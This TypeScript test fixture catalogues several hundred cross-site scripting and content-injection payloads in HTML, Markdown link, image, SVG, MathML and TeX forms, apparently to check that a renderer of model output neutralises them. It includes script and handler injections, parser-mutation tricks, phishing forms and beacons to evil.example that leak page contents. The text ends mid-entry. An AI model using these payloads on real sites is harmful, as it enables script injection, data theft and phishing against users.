/*
 * What a hijacked model could write. Loaded in a page, none of it may run `pwned(…)` or fetch from evil.example; what
 * is a link or a button has to be clicked too.
 */

interface Bait {
  /** Holds single quotes. */
  call: string
  /** The same in backticks, for where either quote would end the place it stands in. */
  ticked: string
  /** The same without any quote, in characters that survive every parser on the way. */
  plain: string
  url: string
}

type Recipes = Record<string, (bait: Bait) => string>

const tex = String.raw

const HTML: Recipes = {
  script: ({ call }) => `<script>${call}</script>`,
  'script in mixed case': ({ call }) => `<ScRiPt>${call}</sCrIpT>`,
  'script with a remote source': ({ url }) => `<script src="${url}.js"></script>`,
  'script with a relative-looking source': ({ url }) => `<script src=${url.slice(6)}.js></script>`,
  'script as a module': ({ url }) => `<script type="module">import '${url}.js'</script>`,
  'script with an odd end tag': ({ call }) => `<script>${call}</script foo="bar" >`,
  'script with a slash for a space': ({ url }) => `<script/src="${url}.js"/async></script>`,
  'script that is never closed': ({ call }) => `Text\n\n<script>${call}`,
  'script inside a script tag': ({ call }) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  'script in the middle of a line': ({ call }) => `A lock <script>${call}</script> has an owner.`,
  'script with a null byte': ({ call }) => `<scr\0ipt>${call}</scr\0ipt><\0script>${call}</script>`,
  'script after a null byte': ({ call }) => `\0<script>${call}</script>`,
  'script as import map': ({ url }) =>
    `<script type="importmap">{"imports":{"react":"${url}.js"}}</script><script type="module">import 'react'</script>`,
  'speculation rules': ({ url }) =>
    `<script type="speculationrules">{"prerender":[{"urls":["${url}"]}]}</script>`,
  'img onerror': ({ call }) => `<img src=x onerror="${call}">`,
  'img onerror unquoted': ({ ticked }) => `<img src=x onerror=${ticked}>`,
  'img onerror in single quotes': ({ ticked }) => `<img src='x' onerror='${ticked}'>`,
  'img onerror in backticks': ({ call }) => `<img src=\`x\` onerror=${call}>`,
  'img onerror without spaces': ({ call }) => `<img/src="x"/onerror="${call}"/>`,
  'img onerror after line breaks': ({ call }) => `<img\nsrc=x\nonerror\n=\n"${call}"\n>`,
  'img onerror after a form feed': ({ call }) => `<img\fsrc=x\fonerror="${call}">`,
  'img onerror in mixed case': ({ call }) => `<IMG SRC=x oNeRrOr="${call}">`,
  'img onerror in entities': ({ plain }) => `<img src=x onerror="&#112;${plain.slice(1)}">`,
  'img onerror twice': ({ call }) =>
    `<img src=x onerror="" onerror="${call}"><img onerror="${call}" src=x src=y>`,
  'img that is never closed': ({ call }) => `<img src=x onerror="${call}" alt="`,
  'img onload': ({ call }) =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${call}">`,
  'img with attribute after a quote': ({ call }) => `<img """><script>${call}</script>">`,
  'img remote': ({ url }) => `<img src="${url}.png" alt="">`,
  'img srcset': ({ url }) => `<img srcset="${url}-1x.png 1x, ${url}-2x.png 2x" alt="">`,
  'img lazy and low': ({ url }) => `<img loading="eager" fetchpriority="high" src="${url}.png">`,
  'img with a lowsrc and dynsrc': ({ url }) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  'picture source': ({ url }) => `<picture><source srcset="${url}.webp"><img alt=""></picture>`,
  'image element': ({ url, call }) => `<image src="${url}.png" onerror="${call}">`,
  iframe: ({ url }) => `<iframe src="${url}"></iframe>`,
  'iframe with script address': ({ call }) => `<iframe src="javascript:parent.${call}"></iframe>`,
  'iframe srcdoc': ({ ticked }) => `<iframe srcdoc="<script>parent.${ticked}</script>"></iframe>`,
  'iframe srcdoc in entities': ({ ticked }) =>
    `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${ticked}&quot;&gt;"></iframe>`,
  'iframe onload': ({ call }) => `<iframe onload="${call}"></iframe>`,
  'frameset onload': ({ call, url }) => `<frameset onload="${call}"><frame src="${url}"></frameset>`,
  object: ({ url }) => `<object data="${url}.swf" type="application/x-shockwave-flash"></object>`,
  'object with a page as data': ({ ticked }) =>
    `<object data="data:text/html,<script>parent.${ticked}</script>"></object>`,
  'object with a script address': ({ call }) => `<object data="javascript:${call}"></object>`,
  'object onerror': ({ call }) => `<object data="x:x" onerror="${call}"></object>`,
  embed: ({ url }) => `<embed src="${url}.svg" type="image/svg+xml">`,
  'embed with a script address': ({ call }) => `<embed src="javascript:${call}">`,
  applet: ({ url }) => `<applet code="Evil.class" archive="${url}.jar"></applet>`,
  base: ({ url }) => `<base href="${url}/">\n\n[the next topic](deadlocks)\n\n<img src="a.png">`,
  'meta refresh': ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  'meta refresh to a script': ({ call }) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  'meta policy': () => `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  'link stylesheet': ({ url }) => `<link rel="stylesheet" href="${url}.css">`,
  'link preload': ({ url }) => `<link rel="preload" as="image" href="${url}.png">`,
  'link prefetch': ({ url }) => `<link rel="prefetch" href="${url}"><link rel="prerender" href="${url}">`,
  'link modulepreload': ({ url }) => `<link rel="modulepreload" href="${url}.js">`,
  'link preconnect': ({ url }) =>
    `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  'link icon': ({ url }) => `<link rel="icon" href="${url}.ico"><link rel="manifest" href="${url}.json">`,
  'link onerror': ({ call }) => `<link rel="stylesheet" href="x:x" onerror="${call}">`,
  'style import': ({ url }) => `<style>@import url("${url}.css");</style>`,
  'style import without url': ({ url }) => `<style>@import '${url}.css';</style>`,
  'style background': ({ url }) => `<style>body, main, p, h1, h2 { background: url(${url}.png) }</style>`,
  'style font': ({ url }) =>
    `<style>@font-face { font-family: evil; src: url(${url}.woff2) } * { font-family: evil }</style>`,
  'style that reads attributes': ({ url }) =>
    `<style>input[value^="a"] { background: url(${url}-a.png) }</style>`,
  'style that hides all': () => `<style>*{display:none!important}</style>`,
  'style onload': ({ call }) => `<style onload="${call}">p{}</style>`,
  'style with escapes': ({ url }) =>
    `<style>@\\69mport "${url}.css"; p{background:\\75rl(${url}.png)}</style>`,
  'style attribute background': ({ url }) => `<p style="background:url('${url}.png')">text</p>`,
  'style attribute list image': ({ url }) => `<ul style="list-style:url(${url}.png)"><li>a</li></ul>`,
  'style attribute image-set': ({ url }) => `<p style='background:image-set("${url}.png" 1x)'>text</p>`,
  'style attribute cursor': ({ url }) =>
    `<p style="cursor:url(${url}.cur),auto;content:url(${url}.png)">text</p>`,
  'style attribute expression': ({ call }) => `<p style="width: expression(${call})">text</p>`,
  'style attribute binding': ({ url }) =>
    `<p style="-moz-binding:url(${url}.xml);behavior:url(${url}.htc)">text</p>`,
  'style attribute over the page': ({ call }) =>
    `<a href="javascript:${call}" style="position:fixed;inset:0;z-index:9999">x</a>`,
  'style animation event': ({ call }) =>
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${call}">text</p>`,
  'style transition event': ({ call }) =>
    `<p id="t" style="transition:color 1ms" ontransitionend="${call}" tabindex="0">text</p><style>#t:target{color:red}</style>`,
  form: ({ url }) =>
    `<form action="${url}"><input name="password" type="password"><button>Log in</button></form>`,
  'form with a script action': ({ call }) => `<form action="javascript:${call}"><button>Next</button></form>`,
  'button formaction': ({ call }) => `<form><button formaction="javascript:${call}">Next</button></form>`,
  'button onclick': ({ call }) => `<button onclick="${call}">Next</button>`,
  'button that submits to another site': ({ url }) =>
    `<form id="f"></form><button form="f" formaction="${url}" formmethod="post">Save</button>`,
  'input image': ({ url, call }) => `<input type="image" src="${url}.png" formaction="javascript:${call}">`,
  'input autofocus': ({ call }) => `<input autofocus onfocus="${call}">`,
  'element autofocus': ({ call }) => `<p tabindex="0" autofocus onfocus="${call}">text</p>`,
  'select autofocus': ({ call }) => `<select autofocus onfocus="${call}"><option>a</select>`,
  'textarea autofocus': ({ call }) => `<textarea autofocus onfocus="${call}"></textarea>`,
  'contenteditable autofocus': ({ call }) => `<x contenteditable autofocus onfocus="${call}">text</x>`,
  isindex: ({ call }) => `<isindex action="javascript:${call}" type="submit" value="Next">`,
  'details ontoggle': ({ call }) => `<details open ontoggle="${call}"><summary>a</summary>b</details>`,
  'video source onerror': ({ call }) => `<video><source onerror="${call}" src="x:x"></video>`,
  'video remote': ({ url }) => `<video src="${url}.mp4" poster="${url}.png" autoplay></video>`,
  'audio onerror': ({ call }) => `<audio src="x:x" onerror="${call}"></audio>`,
  'audio remote': ({ url }) => `<audio src="${url}.mp3" autoplay preload="auto"></audio>`,
  track: ({ url }) => `<video src="data:video/mp4,x"><track default src="${url}.vtt"></video>`,
  marquee: ({ call }) => `<marquee onstart="${call}" width="1" loop="1">text</marquee>`,
  'body onload': ({ call }) => `<body onload="${call}" onpageshow="${call}" onhashchange="${call}">`,
  'body background': ({ url }) =>
    `<body background="${url}.png"><table background="${url}.png"><td>a</table>`,
  'html attributes': ({ call }) => `<html onmouseover="${call}" manifest="x" data-theme="evil">text</html>`,
  'head and title': ({ call }) => `<head><title>Log in again</title><script>${call}</script></head>`,
  template: ({ call }) => `<template><img src=x onerror="${call}"></template>`,
  'template with a shadow root': ({ call }) =>
    `<div><template shadowrootmode="open"><img src=x onerror="${call}"></template></div>`,
  slot: ({ call }) => `<slot onslotchange="${call}"><b slot="x">text</b></slot>`,
  dialog: ({ call }) =>
    `<dialog open onclose="${call}"><form method="dialog"><button>OK</button></form></dialog>`,
  popover: ({ call }) =>
    `<button popovertarget="p">Next</button><div id="p" popover onbeforetoggle="${call}">text</div>`,
  'command button': ({ call }) =>
    `<button commandfor="d" command="show-modal">Next</button><dialog id="d" onbeforetoggle="${call}">a</dialog>`,
  portal: ({ url }) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  'custom element': ({ call }) =>
    `<x-note is="evil" oncontentvisibilityautostatechange="${call}" style="display:block;content-visibility:auto">a</x-note>`,
  'every handler that fires by itself': ({ call }) =>
    ['onload', 'onerror', 'onbegin', 'onfocusin', 'onpageshow', 'onresize', 'onscroll', 'onscrollend']
      .map((handler) => `<div ${handler}="${call}">${handler}</div>`)
      .join('\n'),
  'handlers in every quoting': ({ call, ticked, plain }) =>
    `<p onclick="${call}" onmouseenter='${ticked}' onpointerover=${ticked} onfocus = ${plain} tabindex=0>text</p>`,
  'handlers with odd separators': ({ call }) =>
    `<p/onclick="${call}"><p\tonclick="${call}"><p "onclick="${call}"><p ;onclick="${call}"><p\u00a0onclick="${call}">text`,
  comment: ({ call }) => `<!-- --><script>${call}</script><!-- -->`,
  'comment that ends early': ({ call }) => `<!--><img src=x onerror="${call}">-->`,
  'comment that ends with a bang': ({ call }) => `<!-- --!><img src=x onerror="${call}"> -->`,
  'comment that ends after a dash': ({ call }) => `<!--->\n<img src=x onerror="${call}">\n-->`,
  'comment that never ends': ({ call }) => `<!-- <script>${call}</script>`,
  'conditional comment': ({ call }) => `<!--[if true]><script>${call}</script><![endif]-->`,
  'downlevel-revealed comment': ({ call }) => `<![if true]><script>${call}</script><![endif]>`,
  CDATA: ({ call }) => `<![CDATA[<script>${call}</script>]]>`,
  'CDATA that ends early': ({ call }) => `<svg><![CDATA[><img src=x onerror="${call}">]]></svg>`,
  'processing instruction': ({ call, url }) =>
    `<?xml-stylesheet href="${url}.xsl"?><img src=x onerror="${call}"><?php echo 1 ?>`,
  doctype: ({ call }) => `<!DOCTYPE html [<!ENTITY x "<script>${call}</script>">]><p>&x;</p>`,
  'end tags alone': ({ call }) =>
    `</p></div></main></body></html><script>${call}</script></article></section></template>`,
  'bogus end tag': ({ call }) =>
    `</ x="><img src=x onerror=${call}>"></%><!x="><img src=x onerror=${call}>">`,
  'tag that is never closed': ({ call }) => `<a href="x" onmouseover="${call}"`,
  'tags one in another': ({ call }) => `<<img src=x onerror="${call}"><<<script>${call}</script>`,
  'tag without an end that eats the page': ({ url }) => `<img src='${url}?`,
  'textarea that eats the page': () => 'A note.\n\n<textarea name="rest">',
  'plaintext that eats the page': () => 'A note.\n\n<plaintext>',
  'xmp and listing': ({ call }) =>
    `<xmp></xmp><img src=x onerror="${call}"><listing>&lt;img src=x onerror="${call}"&gt;</listing>`,
  'noscript with a closing attribute': ({ call }) =>
    `<noscript><p title="</noscript><img src=x onerror=&quot;${call}&quot;>"></noscript>`,
  'noscript with a raw tag in an attribute': ({ ticked }) =>
    `<noscript><p title="</noscript><img src=x onerror=${ticked}>"></noscript>`,
  'noembed and noframes': ({ ticked }) =>
    `<noembed><p title="</noembed><img src=x onerror=${ticked}>"></noembed><noframes></noframes><img src=x onerror=${ticked}>`,
  'textarea with a closing attribute': ({ ticked }) =>
    `<textarea><p title="</textarea><img src=x onerror=${ticked}>"></textarea>`,
  'title with a closing attribute': ({ ticked }) =>
    `<title><p title="</title><img src=x onerror=${ticked}>"></title>`,
  'svg style that mutates': ({ ticked }) => `<svg></p><style><a id="</style><img src=1 onerror=${ticked}>">`,
  'svg title that mutates': ({ ticked }) =>
    `<svg><title><style><p title="</style></title></svg><img src=x onerror=${ticked}>"></style></title></svg>`,
  'math mglyph that mutates': ({ ticked }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ticked}&gt;">`,
  'math form nesting that mutates': ({ ticked }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ticked}>`,
  'math annotation-xml': ({ ticked }) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ticked}></style></annotation-xml></math>`,
  'math malignmark that mutates': ({ ticked }) =>
    `<math><mtext><mglyph><malignmark><style><![CDATA[</style><img src=x onerror=${ticked}>]]></style>`,
  'foreignObject that mutates': ({ ticked }) =>
    `<svg><desc><svg></desc></svg><foreignObject><style><!--</style><p title="--><img src=x onerror=${ticked}>">`,
  'table that fosters': ({ call }) =>
    `<table><a href="javascript:${call}">fostered<img src=x onerror="${call}"><tr><td>a</table>`,
  'select that drops tags': ({ ticked }) => `<select><style></select><img src=x onerror=${ticked}></style>`,
  'formatting reopened': ({ call }) => `<b><p><a href="javascript:${call}"></b>text</a></p>`.repeat(5),
  'deep nesting of elements': ({ call }) =>
    `${'<div>'.repeat(600)}<img src=x onerror="${call}">${'</div>'.repeat(600)}`,
  'id that clobbers': () =>
    '<a id="defaultView"></a><form id="document"><input name="cookie"></form><img name="getElementById"><a id="pwned" href="x:y">',
  'id of the page’s own root': () =>
    '<div id="root"></div><main id="main"></main><script id="__reactRouterContext"></script>',
  'entities for tags': ({ call }) => `&lt;script&gt;${call}&lt;/script&gt;`,
  'entities for tags twice': ({ call }) => `&amp;lt;img src=x onerror="${call}"&amp;gt;`,
  'entities without a semicolon': ({ call }) =>
    `&ltimg src=x onerror="${call}"&gt &#60img src=x onerror="${call}"&#62`,
  'entities in hex with zeros': ({ call }) => `&#x000003c;img src=x onerror="${call}"&#x000003e;`,
  'full-width brackets': ({ call }) => `＜script＞${call}＜/script＞ ﹤img src=x onerror="${call}"﹥`,
  'UTF-7': ({ call }) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  'escapes for tags': ({ call }) => `\\<script>${call}\\</script> \\\\<img src=x onerror="${call}">`,
  'tracking by ping': ({ url }) => `<a href="#top" ping="${url}">back to the top</a>`,
  'attribution source': ({ url }) => `<img attributionsrc="${url}"><a href="#" attributionsrc="${url}">a</a>`,
  'area in a map': ({ call }) =>
    `<img usemap="#m" width="50" height="50"><map name="m"><area shape="default" href="javascript:${call}"></map>`,
  'blockquote cite and other addresses': ({ url }) =>
    `<blockquote cite="${url}">a</blockquote><q cite="${url}">b</q><menuitem icon="${url}"><bgsound src="${url}">`,
}

const LINKS: Recipes = {
  javascript: ({ call }) => `[Next](javascript:${call})`,
  'javascript in angle brackets': ({ call }) => `[Next](<javascript:${call}>)`,
  'javascript in mixed case': ({ call }) => `[Next](JaVaScRiPt:${call})`,
  'javascript after a space': ({ call }) => `[Next](< javascript:${call}>) [Next](&#32;javascript:${call})`,
  'javascript after a control character': ({ call }) =>
    `[Next](\u0001javascript:${call}) [Next](<\u001fjavascript:${call}>) [Next](&#1;javascript:${call})`,
  'javascript with a tab': ({ call }) => `[Next](<java\tscript:${call}>) [Next](java&Tab;script:${call})`,
  'javascript with a line break': ({ call }) =>
    `[Next](java&NewLine;script:${call}) [Next](java&#10;script:${call}) [Next](java&#13;script:${call})`,
  'javascript with a tab after it': ({ call }) =>
    `[Next](javascript&#9;:${call}) [Next](javascript&Tab;:${call})`,
  'javascript with its colon as an entity': ({ call }) =>
    `[Next](javascript&colon;${call}) [Next](javascript&#58;${call}) [Next](javascript&#x3a;${call}) [Next](javascript&#0000058${call})`,
  'javascript in entities': ({ call }) =>
    `[Next](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call}) [Next](&#x6A&#x61&#x76&#x61script:${call})`,
  'javascript in percents': ({ call }) => `[Next](javascript%3A${call}) [Next](%6Aavascript:${call})`,
  'javascript with escapes': ({ call }) => `[Next](javascript\\:${call}) [Next](java\\script:${call})`,
  'javascript with a null byte': ({ call }) => `[Next](java\0script:${call}) [Next](java&#0;script:${call})`,
  'javascript with a zero-width space': ({ call }) =>
    `[Next](java\u200bscript:${call}) [Next](\ufeffjavascript:${call})`,
  'javascript with a soft hyphen': ({ call }) =>
    `[Next](java\u00adscript:${call}) [Next](java&shy;script:${call})`,
  'javascript in look-alike letters': ({ call }) =>
    `[Next](ｊａｖａｓｃｒｉｐｔ:${call}) [Next](jаvascript:${call}) [Next](javaſcript:${call})`,
  'javascript with an address in a comment': ({ call, url }) =>
    `[Next](javascript://${url.slice(8)}%0A${call})`,
  'javascript that looks like a topic': ({ call }) => `[Next](javascript:/learn/os;${call})`,
  'javascript behind view-source': ({ call }) =>
    `[Next](view-source:javascript:${call}) [Next](feed:javascript:${call})`,
  'javascript as an autolink': ({ plain }) => `<javascript:${plain}> and <JAVASCRIPT:${plain}>`,
  'javascript in a definition': ({ call }) => `[Next][evil]\n\n[evil]: javascript:${call}`,
  'javascript in a definition over lines': ({ call }) =>
    `[Next][evil], [evil][], [evil]\n\n[evil]:\n  <javascript:${call}>\n  'a title'`,
  'definition that comes twice': ({ call, url }) =>
    `[evil]\n\n[evil]: javascript:${call}\n[evil]: ${url}\n[EVIL]: /learn/os`,
  vbscript: ({ plain }) => `[Next](vbscript:${plain}) [Next](livescript:${plain}) [Next](mocha:${plain})`,
  'data page': ({ ticked }) => `[Next](<data:text/html,<script>opener.${ticked}</script>>)`,
  'data page in base64': ({ ticked }) =>
    `[Next](data:text/html;base64,${btoa(`<script>(opener||parent).${ticked}</script>`)})`,
  'data page without a type': ({ plain }) =>
    `[Next](data:,${plain}) [Next](data:;base64,PHNjcmlwdD4=) [Next](DATA:text/html,x)`,
  'data image of type svg': ({ ticked }) =>
    `[Next](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ticked}'/>>)`,
  blob: ({ url }) => `[Next](blob:${url})`,
  file: () => '[Next](file:///etc/passwd) [Next](\\\\evil.example\\share)',
  'other schemes': () =>
    [
      'about:blank',
      'chrome://settings',
      'filesystem:http://x/y',
      'intent://x#Intent;end',
      'ms-word:ofe|u|x',
      'jar:x!/',
      'res://x',
      'ws://evil.example',
      'tel:1',
      'sms:1',
      'wyciwyg:x',
    ]
      .map((address) => `[Next](${address})`)
      .join(' '),
  'address without a scheme': ({ url }) =>
    `[Next](${url.slice(6)}) [Next](/\\${url.slice(8)}) [Next](\\\\${url.slice(8)})`,
  'address with a name and password': ({ url }) => `[Log in](https://pointer.example@${url.slice(8)})`,
  'address in look-alike letters': () =>
    '[Log in](https://pоinter.example) <https://xn--pinter-9ye.evil.example>',
  'autolink of a page': ({ url }) => `<${url}> ${url} www.evil.example`,
  'autolink that breaks out': ({ call }) =>
    `<https://evil.example/"onmouseover="${call}"> <https://evil.example/?'onclick='${call}>`,
  'mail address that breaks out': ({ plain }) =>
    `<"onclick=${plain}//@evil.example> <a@evil.example?subject="onclick=x>`,
  'title that breaks out': ({ call }) => `[Next](/learn/os '" onmouseover="${call}" x="')`,
  'title in parentheses that breaks out': ({ ticked }) =>
    `[Next](/learn/os (" autofocus onfocus=${ticked} x="))`,
  'title with a tag': ({ ticked }) => `[Next](/learn/os "\\"><img src=x onerror=${ticked}>")`,
  'title with entities': ({ call }) => `[Next](/learn/os "&quot; onmouseover=&quot;${call}&quot;")`,
  'address that breaks out': ({ ticked }) =>
    `[Next](/learn/os"onmouseover=${ticked}") [Next](</learn/os" onclick="${ticked}>)`,
  'address with a tag': ({ ticked }) =>
    `[Next](<"><img src=x onerror=${ticked}>>) [Next](/x"><script>${ticked}</script>)`,
  'text with a tag': ({ call }) =>
    `[<img src=x onerror="${call}">](/learn/os) [\`<script>${call}</script>\`](/learn/os)`,
  'link in a link': ({ call }) => `[a [b](javascript:${call}) c](javascript:${call})`,
  'link that is never closed': ({ call }) => `[a](javascript:${call}\n\n[b](<javascript:${call}\n\n[c][`,
  'link to the page’s own actions': () =>
    '[Next](/sign-out) [Next](/attempts) [Next](../../account/delete) [Next](?index)',
  'link of a topic that breaks out': ({ call }) =>
    `[Next](topic:../../x"onclick="${call}) [Next](topic:javascript:${call}) [Next](topic:__proto__/constructor)`,
}

const IMAGES: Recipes = {
  remote: ({ url }) => `![a](${url}.png)`,
  'protocol-relative': ({ url }) => `![a](${url.slice(6)}.png) ![a](/\\${url.slice(8)}.png)`,
  'with a secret in its address': ({ url }) => `![loading](${url}?stolen=everything-above "a title")`,
  javascript: ({ call }) => `![a](javascript:${call}) ![a](<java\tscript:${call}>)`,
  'data svg with script': ({ ticked }) =>
    `![a](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ticked}"/>`)})`,
  'data svg that fetches': ({ url }) =>
    `![a](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}.png'/></svg>>)`,
  'data page': ({ ticked }) => `![a](<data:text/html,<script>parent.${ticked}</script>>)`,
  'alternative that breaks out': ({ call }) => `!["onerror="${call}](x) ![" onload="${call}" x="](/icon.svg)`,
  'address that breaks out': ({ ticked }) => `![a](x"onerror=${ticked}") ![a](<x" onerror="${ticked}>)`,
  'title that breaks out': ({ ticked }) => `![a](x '"onerror="${ticked}')`,
  'srcset in its address': ({ url }) => `![a](x"srcset="${url}.png) ![a](<x" srcset="${url}.png 1x>)`,
  'in a link': ({ url, call }) => `[![a](${url}.png)](javascript:${call})`,
  'by reference': ({ url }) => `![a][evil] ![evil][] ![evil]\n\n[evil]: ${url}.png "title"`,
  'in a table': ({ url }) => `| a | b |\n|---|---|\n| ![a](${url}.png) | ![b](${url.slice(6)}.png) |`,
  'in a heading': ({ url }) => `# ![a](${url}.png)\n\n![b](${url}.png)\n=====`,
  'in a list and a quotation': ({ url }) =>
    `- ![a](${url}.png)\n  > ![b](${url}.png)\n  >\n  > 1. ![c](${url}.png)`,
  'in the alternative of an image': ({ url }) => `![![a](${url}-1.png)](${url}-2.png)`,
  'as an attachment of the browser': () =>
    '![a](chrome://favicon/x) ![a](file:///etc/passwd) ![a](blob:null/x)',
}

const SVG: Recipes = {
  onload: ({ call }) => `<svg onload="${call}"></svg>`,
  'onload without spaces': ({ call }) => `<svg/onload="${call}"/>`,
  script: ({ call }) => `<svg><script>${call}</script></svg>`,
  'script in entities': ({ plain }) => `<svg><script>&#112;${plain.slice(1)}</script></svg>`,
  'script with an href': ({ url }) => `<svg><script href="${url}.js"/><script xlink:href="${url}.js"/></svg>`,
  foreignObject: ({ call }) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
  'foreignObject with an iframe': ({ ticked }) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${ticked}</script>"></iframe></foreignObject></svg>`,
  'use of another document': ({ url }) =>
    `<svg><use href="${url}.svg#x"/><use xlink:href="${url}.svg#y"/></svg>`,
  'use of data': ({ ticked }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${ticked}'/></svg>#x"/></svg>`,
  image: ({ url }) => `<svg><image href="${url}.png"/><image xlink:href="${url}.png"/></svg>`,
  'image onerror': ({ call }) => `<svg><image href="x:x" onerror="${call}"/></svg>`,
  feImage: ({ url }) =>
    `<svg><filter id="f"><feImage href="${url}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'fill from another document': ({ url }) =>
    `<svg><rect width="9" height="9" fill="url(${url}.svg#p)" mask="url(${url}.svg#m)" filter="url(${url}.svg#f)"/></svg>`,
  'a with href': ({ call }) => `<svg><a href="javascript:${call}"><text y="20">Next</text></a></svg>`,
  'a with xlink:href': ({ call }) =>
    `<svg><a xlink:href="javascript:${call}"><text y="20">Next</text></a></svg>`,
  'animate of href': ({ call }) =>
    `<svg><a><animate attributeName="href" values="javascript:${call}"/><text y="20">Next</text></a></svg>`,
  'set of href': ({ call }) =>
    `<svg><a><set attributeName="xlink:href" to="javascript:${call}"/><text y="20">Next</text></a></svg>`,
  'animate from another place': ({ call }) =>
    `<svg><animate href="#v" attributeName="href" to="javascript:${call}" begin="0s"/><a id="v"><text y="20">Next</text></a></svg>`,
  'animate onbegin': ({ call }) => `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
  'animate onend': ({ call }) => `<svg><animate onend="${call}" attributeName="x" dur="1ms"/></svg>`,
  'set of a handler': ({ call }) =>
    `<svg><set attributeName="onmouseover" to="${call}"/><rect width="99" height="99"/></svg>`,
  style: ({ url }) =>
    `<svg><style>@import "${url}.css"; rect { fill: url(${url}.svg#p) }</style><rect width="9" height="9"/></svg>`,
  'style in entities': ({ url }) => `<svg><style>&#64;import "${url}.css";</style></svg>`,
  'handler element': ({ call }) =>
    `<svg><handler type="text/ecmascript">${call}</handler><listener event="load"/></svg>`,
  'nested and unclosed': ({ call }) => `<svg><g><svg onload="${call}"><path d="`,
  'math in raw HTML with a link': ({ call }) =>
    `<math href="javascript:${call}">x</math><math><mi xlink:href="javascript:${call}">Next</mi></math>`,
  'math action': ({ call }) =>
    `<math><maction actiontype="statusline#${call}" xlink:href="javascript:${call}">Next</maction></math>`,
  'math with a handler': ({ call }) =>
    `<math><mi onclick="${call}" onfocus="${call}" tabindex="0" autofocus>x</mi></math>`,
  'math with a style': ({ url }) =>
    `<math><mi style="background:url(${url}.png)" mathbackground="url(${url}.png)">x</mi></math>`,
  'math with an image': ({ url }) =>
    `<math><mglyph src="${url}.png" alt="a"/><semantics><annotation-xml encoding="SVG1.1"><svg><image href="${url}.png"/></svg></annotation-xml></semantics></math>`,
}

const TEX: Recipes = {
  href: ({ call }) => tex`$\href{javascript:${call}}{x}$`,
  'href as a block': ({ call }) => `$$\n\\href{javascript:${call}}{x}\n$$`,
  'href in mixed case': ({ call }) => tex`$\href{JaVaScRiPt:${call}}{x}$`,
  'href with a tab': ({ call }) => `$\\href{java\tscript:${call}}{x}$`,
  'href that breaks out': ({ call }) =>
    tex`$\href{x' onclick='${call.replaceAll("'", '"')}}{x}$ $\href{x" onclick="${call}}{x}$`,
  'href by a macro': ({ call }) => tex`$\def\go{\href{javascript:${call}}}\go{x}$`,
  'href to a page': ({ url }) => tex`$\href{${url}}{x}$`,
  url: ({ call }) => tex`$\url{javascript:${call}}$`,
  includegraphics: ({ url }) => tex`$\includegraphics{${url}.png}$`,
  'includegraphics with a size': ({ url }) => tex`$\includegraphics[width=3em, alt=x]{${url}.png}$`,
  'includegraphics that breaks out': ({ call }) =>
    tex`$\includegraphics[alt=a' onerror='${call.replaceAll("'", '"')}]{x}$`,
  class: () => tex`$\class{fixed inset-0}{x}$ $\htmlClass{fixed inset-0}{x}$`,
  'class that breaks out': ({ call }) =>
    tex`$\class{a" onmouseover="${call}}{x}$ $\class{a'onmouseover='${call.replaceAll("'", '"')}}{x}$`,
  id: () => tex`$\id{main}{x}$ $\htmlId{main}{x}$ $\cssId{main}{x}$`,
  style: ({ url }) =>
    tex`$\style{background:url(${url}.png)}{x}$ $\htmlStyle{background:url(${url}.png)}{x}$`,
  'style over the page': () => tex`$\style{position:fixed;inset:0;background:red}{x}$`,
  'style that breaks out': ({ call }) => tex`$\style{" onmouseover="${call}}{x}$`,
  data: ({ call }) => tex`$\data{x=y, onclick=${call}}{x}$ $\htmlData{foo=1}{x}$`,
  'data that breaks out': ({ call }) =>
    tex`$\data{x" onclick="${call}"=y}{x}$ $\data{a><img src=x onerror=${call}=y}{x}$`,
  html: ({ call }) => tex`$\html{<img src=x onerror="${call}">}$ $\htmlData{a=b}{x}$`,
  unicode: ({ call }) => tex`$\unicode{x3C}script\unicode{x3E}$ $\unicode[Arial" onclick="${call}]{x41}$`,
  char: ({ plain }) => tex`$\char"3Cimg src=x onerror=${plain}\char"3E$ $\char0 \char"D800 \char"110000$`,
  text: ({ call }) => tex`$\text{<img src=x onerror="${call}">}$`,
  'text with entities': ({ call }) =>
    tex`$\text{&lt;img src=x onerror="${call}"&gt;}$ $\mbox{</math><script>${call}</script>}$`,
  'end of the formula': ({ call }) => tex`$x</mi></math><img src=x onerror="${call}">$`,
  'end of an annotation': ({ call }) =>
    tex`$x \text{</annotation></semantics></math><svg onload="${call}">}$`,
  color: ({ call }) =>
    tex`$\color{red" onclick="${call}}x$ $\textcolor{red;background:url(//evil.example)}{x}$ $\colorbox{"><script>}{x}$`,
  'colour that is defined': ({ call }) =>
    tex`$\definecolor{e}{HTML}{"><img src=x onerror=${call}>}\color{e}x$`,
  tag: ({ call }) => `$$\nx \\tag{<img src=x onerror="${call}">}\n$$`,
  label: ({ call }) => tex`$$x\label{a" onclick="${call}}$$ $\ref{a" onclick="${call}}$ $\eqref{main}$`,
  'label that clobbers': () => tex`$$x\label{constructor}$$ $\ref{__proto__}$ $\label{main}$`,
  'environment with a name of its own': ({ call }) =>
